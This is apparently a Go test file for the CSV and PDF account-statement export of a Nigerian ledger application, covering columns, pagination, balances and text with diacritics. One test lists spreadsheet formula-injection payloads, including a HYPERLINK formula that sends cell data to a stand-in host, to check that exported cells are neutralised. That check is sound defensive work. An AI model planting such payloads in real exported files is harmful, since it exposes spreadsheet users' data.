package statement

import (
	"bytes"
	"compress/zlib"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"ajo/internal/money"
	"ajo/internal/testenv"
	"ajo/ledger"
)

var at = time.Date(2026, 1, 30, 23, 30, 0, 0, time.UTC) // in Lagos it is the next day

func line(narration string) ledger.Line {
	return ledger.Line{RunningBalance: money.Must("-1234567.50"), Entry: ledger.Entry{
		ID: uuid.New(), Direction: ledger.Credit, Amount: money.Must("5000.00"), Fee: money.Must("25.00"), Currency: "NGN", Status: ledger.Provisional,
		Narration: narration, ProviderTxnRef: "API-VACT_TRA-1", TransactionGroupID: uuid.New(), CreatedAt: at, SenderName: "Bọ́lá Adé", SenderBank: "GTBank", SenderAccount: "0123456789", SenderBankCode: "058", SessionID: "000013",
	}}
}

// anyLines are five lines with any texts, some of which end in one of those given. To make a page
// of each would take most of the time.
func anyLines(t *rapid.T, ends ...string) (lines []ledger.Line) {
	for range 5 {
		lines = append(lines, line(rapid.String().Draw(t, "narration")+rapid.SampledFrom(append(ends, "")).Draw(t, "end")))
	}
	return lines
}

func init() { testenv.FewChecks() }

func sequence(lines ...ledger.Line) iter.Seq2[ledger.Line, error] {
	return func(yield func(ledger.Line, error) bool) {
		for _, l := range lines {
			if !yield(l, nil) {
				return
			}
		}
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	credit, debit := line(`Ọláoyè said "thanks", twice`), line("")
	ref, of := "AJO00000000000000000000000000000000", uuid.New()
	debit.Entry.Direction, debit.Entry.TransferRef, debit.Entry.ReversalOf, debit.Entry.ProviderTxnRef = ledger.Debit, &ref, &of, ""
	debit.Entry.SenderName, debit.Entry.SenderBank = "", ""
	debit.Entry.SenderAccount, debit.Entry.SenderBankCode, debit.Entry.SessionID = "", "", ""
	debit.Entry.Kind = ledger.KindFee
	var b bytes.Buffer
	require.NoError(t, CSV(&b, sequence(credit, debit)))
	require.True(t, bytes.HasPrefix(b.Bytes(), []byte("\xEF\xBB\xBFtime,direction,amount,")), "Excel reads it as UTF-8")
	require.Equal(t, 3, strings.Count(b.String(), "\r\n"))
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes()[3:])).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{
		{"time", "direction", "amount", "fee", "currency", "status", "narration", "providerTxnRef", "transferRef", "runningBalance", "entryId", "transactionGroupId", "reversalOf", "senderName", "senderBank", "senderAccount", "senderBankCode", "sessionId", "kind"},
		{
			"2026-01-31T00:30:00+01:00", "credit", "5000.00", "25.00", "NGN", "provisional", `Ọláoyè said "thanks", twice`, "API-VACT_TRA-1", "", "-1234567.50",
			credit.Entry.ID.String(), credit.Entry.TransactionGroupID.String(), "", "Bọ́lá Adé", "GTBank", "0123456789", "058", "000013", "",
		},
		{
			"2026-01-31T00:30:00+01:00", "debit", "5000.00", "25.00", "NGN", "provisional", "", "", ref, "-1234567.50",
			debit.Entry.ID.String(), debit.Entry.TransactionGroupID.String(), of.String(), "", "", "", "", "", "fee",
		},
	}, rows)
}

// What a payer writes is never a formula to the spreadsheet that opens the file.
func TestCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	for _, evil := range []string{
		`=HYPERLINK("https://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00A0=1", "\u200B=1", "＝1", "＋1", "－1", "＠1",
	} {
		l := line(evil)
		l.Entry.ProviderTxnRef, l.Entry.SenderName, l.Entry.SenderBank, l.Entry.SenderAccount = evil, evil, evil, evil
		var b bytes.Buffer
		require.NoError(t, CSV(&b, sequence(l)))
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		for _, cell := range append(rows[1][6:8], rows[1][13:15]...) {
			require.True(t, strings.HasPrefix(cell, "'"), "%q", cell)
		}
	}
	for _, fine := range []string{"Rent = paid", "a-b", "", "'quoted'", "Ẹ̀kọ́ Ọjọ́ Àìkú"} {
		require.Equal(t, fine, harmless(fine))
	}
}

func TestCSVEndsAtAnError(t *testing.T) {
	t.Parallel()
	broken := errors.New("connection lost")
	err := CSV(&bytes.Buffer{}, func(yield func(ledger.Line, error) bool) {
		if yield(line("a"), nil) {
			yield(ledger.Line{}, broken)
		}
	})
	require.ErrorIs(t, err, broken)
}

func sheet(lines ...ledger.Line) Sheet {
	return Sheet{Tenant: "Ṣadé & Ọmọ Stores", Holder: "Ọlábísí Ẹ̀kúndayọ̀", Number: "9012345678", Bank: "Ajo Bank", Ref: "customer-1", Lines: lines}
}

var (
	streams = regexp.MustCompile(`(?s)/FlateDecode /Length ([0-9]+)>>\nstream\n`)
	shown   = regexp.MustCompile(`(?s)\(((?:[^\\()]|\\.)*)\) ?Tj`)
	escapes = strings.NewReplacer(`\\`, `\`, `\(`, `(`, `\)`, `)`, `\r`, "\r")
)

// read returns a PDF's text, page by page: what its pages show, which is UTF-16.
func read(t require.TestingT, sheets ...Sheet) []string {
	var b bytes.Buffer
	require.NoError(t, PDF(&b, sheets[0].Ref, Made{At: at}, sheets...))
	return textOf(t, b)
}

func textOf(t require.TestingT, b bytes.Buffer) (pages []string) {
	require.True(t, bytes.HasPrefix(b.Bytes(), []byte("%PDF-1.")))
	for _, at := range streams.FindAllSubmatchIndex(b.Bytes(), -1) {
		r, err := zlib.NewReader(bytes.NewReader(b.Bytes()[at[1]:]))
		require.NoError(t, err)
		content, err := io.ReadAll(r)
		require.NoError(t, err)
		if !bytes.Contains(content, []byte(" Tf")) {
			continue // a font
		}
		var page []string
		for _, m := range shown.FindAllSubmatch(content, -1) {
			text := escapes.Replace(string(m[1]))
			require.Zero(t, len(text)%2, "%q", text)
			var units []uint16
			for i := 0; i < len(text); i += 2 {
				units = append(units, uint16(text[i])<<8|uint16(text[i+1]))
			}
			page = append(page, string(utf16.Decode(units)))
		}
		pages = append(pages, strings.Join(page, "\n"))
	}
	return pages
}

func TestPDF(t *testing.T) {
	t.Parallel()
	review, out := line("Owó ilé Ìyá Àgbà"), line("")
	review.Entry.Status = ledger.NeedsReview
	ref := "AJO00000000000000000000000000000000"
	out.Entry.Direction, out.Entry.Amount, out.Entry.TransferRef, out.Entry.Status = ledger.Debit, money.Must("1200.00"), &ref, ledger.Confirmed
	out.RunningBalance = money.Must("3800.00")
	s := sheet(line("Owó ilé"), review, out)
	s.Opening, s.Closing, s.Filter.From = money.Must("7.00"), money.Must("3807.00"), at
	text := strings.Join(read(t, s), "\n")
	for _, want := range []string{
		"Ṣadé & Ọmọ Stores", "Ọlábísí Ẹ̀kúndayọ̀ (customer-1)", "9012345678 Ajo Bank", "31 Jan 2026 00:30 to today", "Opening balance", "₦ 7.00", "Closing balance", "₦ 3,807.00",
		"Money in", "₦ 5,000.00", "Money out", "₦ 1,200.00", "Bọ́lá Adé (GTBank) · Owó ilé (provisional)", "Bọ́lá Adé (GTBank) · Owó ilé Ìyá Àgbà", "(needs review)", "Fee (₦)\n", "\n25.00\n", "API-VACT_TRA-1", ref, "−1,234,567.50", "page 1 of 1",
	} {
		require.Contains(t, text, want)
	}
	s.Filter = ledger.Filter{Direction: ledger.Credit, Status: ledger.NeedsReview}
	text = strings.Join(read(t, s), "\n")
	require.Contains(t, text, "money in, needs review")
	require.NotContains(t, text, "Closing balance", "of some of the lines it says nothing")
	require.Contains(t, strings.Join(read(t, sheet()), "\n"), "No entries.")
}

// The figures of the heading lead from one balance to the other, also where a payment went under
// review between the two, or since: no line says that.
func TestPDFAddsUpBesideReviews(t *testing.T) {
	t.Parallel()
	before := sheet() // posted before the time, and under review since
	before.Opening = money.Must("100.00")
	within := sheet(line("Owó ilé")) // it was in the balance at the end, and is under review now
	within.Lines[0].Entry.Status, within.Closing = ledger.NeedsReview, money.Must("5000.00")
	for want, s := range map[string]Sheet{"₦ −100.00": before, "₦ 5,000.00": within} {
		text := strings.Join(read(t, s), "\n")
		require.Contains(t, text, "By reviews\n"+want+"\n")
		require.Contains(t, text, "What is by reviews")
	}
	plain := sheet(line("Owó ilé"))
	plain.Closing = money.Must("5000.00")
	only := within
	only.Filter.Direction = ledger.Credit
	for _, s := range []Sheet{plain, only, sheet()} {
		text := strings.Join(read(t, s), "\n")
		require.NotContains(t, text, "By reviews")
		require.NotContains(t, text, "What is by reviews")
	}
}

// Several statements each begin on a page.
func TestPDFOfAllAccounts(t *testing.T) {
	t.Parallel()
	other := sheet(line("the second"))
	other.Ref, other.Holder = "customer-2", "Chidi Eze"
	pages := read(t, sheet(line("the first")), other)
	require.Len(t, pages, 2)
	require.Contains(t, pages[0], "the first")
	require.Contains(t, pages[1], "Chidi Eze (customer-2)")
	none := strings.Join(read(t, Sheet{Tenant: "Ada Stores"}), "\n")
	require.Contains(t, none, "No entries.")
	require.NotContains(t, none, "Account\n")
	require.NotContains(t, none, "Opening balance", "the balances of accounts without entries were not read")
	require.NotContains(t, none, "Closing balance")
}

// The table goes on over the pages, with its head on each, and nothing is lost or written below the
// page.
func TestPDFHasPages(t *testing.T) {
	t.Parallel()
	var lines []ledger.Line
	for i := range 150 {
		lines = append(lines, line(fmt.Sprintf("payment %03d %s", i, strings.Repeat("of many words ", i%20))))
	}
	pages := read(t, sheet(lines...))
	require.Greater(t, len(pages), 4)
	for i, p := range pages {
		require.Contains(t, p, "Balance (₦)")
		require.Contains(t, p, fmt.Sprintf("page %d of %d", i+1, len(pages)))
	}
	whole := strings.Join(pages, "\n")
	for i := range lines {
		require.Equal(t, 1, strings.Count(whole, fmt.Sprintf("payment %03d", i)), i)
	}
	require.NotContains(t, whole, testData)
	var b bytes.Buffer
	require.NoError(t, PDF(&b, "customer-1", Made{At: at, Test: true}, sheet(lines...)))
	marked := textOf(t, b)
	require.Len(t, marked, len(pages))
	for _, p := range marked {
		require.Contains(t, p, testData)
	}
}

// A file of all accounts says on its last sheet which accounts it leaves out, as the balances of
// the others are not all.
func TestPDFSaysWhatItLeavesOut(t *testing.T) {
	t.Parallel()
	first, last := sheet(line("x")), sheet(line("y"))
	last.LeftOut, last.LeftBalance = 12, money.Must("3400.50")
	pages := read(t, first, last)
	require.NotContains(t, pages[0], "Left out")
	require.Contains(t, pages[1], "Left out\n12 accounts without entries in the period, with a balance of ₦ 3,400.50")
	last.LeftOut, last.Filter.Direction = 1, ledger.Credit
	require.Contains(t, read(t, last)[0], "Left out\n1 account without such entries\n")
	none := Sheet{Tenant: "Ada Stores", LeftOut: 1, LeftBalance: money.Must("5.00")}
	require.Contains(t, strings.Join(read(t, none), "\n"), "1 account without entries in the period, with a balance of ₦ 5.00")
}

// A reference without a space is broken, a text without an end is cut, and a mark stays with its
// letter.
func TestPDFBreaksLongTexts(t *testing.T) {
	t.Parallel()
	l := line(strings.Repeat("Ọ̀ṣun ", 300))
	l.Entry.ProviderTxnRef = strings.Repeat("Ọ̀", 100)
	text := strings.Join(read(t, sheet(l)), "\n")
	require.Equal(t, 100, strings.Count(text, "Ọ̀")-strings.Count(text, "Ọ̀ṣun"))
	require.NotContains(t, text, "\n\u0300")
	require.Contains(t, text, "…")
	require.Less(t, strings.Count(text, "ṣun"), 300)
	require.Contains(t, text, "(provisional)", "the text is cut, its entry's status is not")
}

func TestPeriods(t *testing.T) {
	t.Parallel()
	lagos := func(d, h int) time.Time { return time.Date(2026, 1, d, h-1, 0, 0, 0, time.UTC) }
	made := time.Date(2026, 2, 1, 8, 30, 0, 0, time.UTC)
	for want, f := range map[string]ledger.Filter{
		"the first entry to today, 1 Feb 2026 09:30":  {},
		"3 Jan 2026 to today, 1 Feb 2026 09:30":       {From: lagos(3, 0), To: lagos(365, 0)},
		"3 Jan 2026 to 4 Jan 2026":                    {From: lagos(3, 0), To: lagos(5, 0)},
		"3 Jan 2026 09:00 to before 5 Jan 2026 10:00": {From: lagos(3, 9), To: lagos(5, 10)},
		"the first entry to 31 Jan 2026":              {To: time.Date(2026, 1, 31, 23, 0, 0, 0, time.UTC)},
	} {
		require.Equal(t, want, period(f, made))
	}
}

// Whatever a payer writes, there is a page, and one that can be read; the library alone would fail
// at some of it.
func TestAnyTextMakesAPage(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		read(t, sheet(anyLines(t, "😀𝔸", "\x00\x1b", "\xff\xfe", "{nb}", "لعربية", "\\)(", "\u202e", "\U0010FFFF", "\uFFFF")...))
	})
}

// Pages are made at once by several requests, out of one font.
func TestPDFsAtOnce(t *testing.T) {
	t.Parallel()
	testenv.AtOnce(8, func(i int) {
		name := fmt.Sprintf("Ọ̀ṣun %c%c", 'a'+i, 'ạ'+rune(i))
		if !strings.Contains(strings.Join(read(t, sheet(line(name))), "\n"), plain(name)) {
			t.Errorf("%s is not in its own file", name)
		}
	})
}

func BenchmarkPDF(b *testing.B) {
	lines := make([]ledger.Line, 5000)
	for i := range lines {
		lines[i] = line("School fees of the second term")
	}
	b.ReportAllocs()
	for b.Loop() {
		var out bytes.Buffer
		if err := PDF(&out, "a", Made{At: at}, sheet(lines...)); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(out.Len()), "bytes")
	}
}
